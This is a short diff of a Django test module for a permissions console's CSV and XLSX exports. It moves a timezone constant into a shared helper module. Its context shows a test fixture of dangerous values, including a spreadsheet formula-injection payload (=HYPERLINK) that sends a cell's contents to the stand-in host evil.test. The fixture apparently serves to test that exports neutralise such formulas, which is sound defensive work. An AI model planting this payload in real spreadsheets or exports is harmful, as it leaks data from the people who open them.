@@ -5,7 +5,6 @@ come a batch at a time in the list's order."""
 from __future__ import annotations
 
 import datetime
-from zoneinfo import ZoneInfo
 
 import pytest
 import time_machine
@@ -17,12 +16,12 @@ from permissions.console import exports, selectors
 from permissions.models import AuditEvent, ConductRule, PermissionRequest, User
 from permissions.workflow import Approval
 from tests.factories import submitted_request
+from tests.helpers import PKT
 
 from .conftest import csv_rows, references, xlsx_cells
 
 pytestmark = pytest.mark.django_db
 
-PKT = ZoneInfo("Asia/Karachi")
 DANGEROUS = {
     "topic": '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
     "outlet": "+92 300 1234567",
